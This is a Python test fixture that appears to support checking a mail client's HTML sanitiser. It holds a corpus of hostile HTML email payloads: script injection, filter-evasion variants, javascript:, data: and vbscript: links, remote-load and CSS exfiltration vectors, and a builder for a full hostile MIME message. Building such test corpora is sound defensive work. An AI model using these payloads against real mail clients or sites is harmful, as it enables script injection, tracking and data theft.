"""A corpus of hostile HTML mail: each piece tries to run script, load
something from elsewhere or navigate away.  BEACON is replaced by the
URL of a loopback listener that must never see a connection; TOKEN
marks what would show that script ran."""

BEACON = "http://127.0.0.1:9/"      # replaced by the test's listener
TOKEN = "pwned"

CORPUS = {
    "script": "<script>document.title='{T}';fetch('{B}script')</script>",
    "script-case": "<ScRiPt >parent.document.title='{T}'</sCrIpT>",
    "script-split": "<scr<script>x</script>ipt>alert('{T}')</script>",
    "onerror": "<img src=x onerror=\"document.title='{T}'\">",
    "onload-body": "<body onload=\"document.title='{T}'\">hi</body>",
    "svg-onload": "<svg onload=\"document.title='{T}'\"><script>"
                  "document.title='{T}'</script></svg>",
    "svg-image": "<svg><image href=\"{B}svg-image\"/></svg>",
    "js-link": "<a id=js href=\"javascript:document.title='{T}'\">click</a>",
    "js-link-entities": "<a href=\"jav&#x61;script&colon;alert(1)\">x</a>"
                        "<a href=\"&#106;avascript:alert(1)\">y</a>"
                        "<a href=\" java\tscript:alert(1)\">z</a>",
    "data-link": "<a href=\"data:text/html,<script>alert(1)</script>\">d</a>",
    "data-img": "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "vbscript": "<a href=\"vbscript:msgbox(1)\">v</a>",
    "meta-refresh": "<meta http-equiv=\"refresh\" content=\"0;url={B}meta\">",
    "base": "<base href=\"{B}base/\"><img src=\"rel.png\">",
    "iframe": "<iframe src=\"{B}iframe\"></iframe>"
              "<iframe srcdoc=\"<script>parent.document.title='{T}'"
              "</script>\"></iframe>",
    "frameset": "<frameset><frame src=\"{B}frame\"></frameset>",
    "object": "<object data=\"{B}object\"></object><embed src=\"{B}embed\">",
    "remote-img": "<img src=\"{B}img.png\" width=1 height=1>",
    "remote-bg": "<table background=\"{B}bg.png\"><tr><td "
                 "style=\"background:url({B}td.png)\">x</td></tr></table>",
    "css-url": "<style>body{{background:url('{B}css')}}"
               "input[value^=a]{{background:url({B}exfil-a)}}</style>",
    "css-import": "<style>@import url({B}import.css);</style>",
    "css-escape": "<div style=\"background:\\75rl({B}escaped)\">e</div>",
    "link-css": "<link rel=stylesheet href=\"{B}link.css\">",
    "form": "<form action=\"{B}form\"><input name=q value=x>"
            "<button>go</button></form>",
    "style-breakout": "<style>x{{}}</style><img src=x "
                      "onerror=\"document.title='{T}'\"></style>",
    "comment-breakout": "<!-- --><script>document.title='{T}'</script>-->",
    "attr-breakout": "<p title=\"\"><img src=x onerror=alert(1)>\">p</p>",
    "noscript": "<noscript><img src=\"{B}noscript\"></noscript>",
    "video": "<video src=\"{B}video\" poster=\"{B}poster\"></video>",
    "prefetch": "<link rel=dns-prefetch href=\"{B}dns\">"
                "<link rel=prefetch href=\"{B}prefetch\">",
}


def corpus(beacon=BEACON):
    """Every piece with the beacon filled in: {name: html}."""
    return {k: v.format(B=beacon, T=TOKEN) for k, v in CORPUS.items()}


def hostile_message(beacon=BEACON, subject="hostile"):
    """One multipart/alternative mail whose HTML holds the whole corpus."""
    html = "<html><head><title>t</title></head><body><h1>Hostile</h1>" + \
        "".join("<div class=case>%s</div>" % v
                for v in corpus(beacon).values()) + \
        "<p id=end>end of corpus</p></body></html>"
    return ("From: Mallory <mallory@evil.test>\r\n"
            "To: alice@example.com\r\nSubject: %s\r\n"
            "MIME-Version: 1.0\r\n"
            "Content-Type: multipart/alternative; boundary=b\r\n\r\n"
            "--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
            "plain\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\n"
            "\r\n%s\r\n--b--\r\n" % (subject, html)).encode()
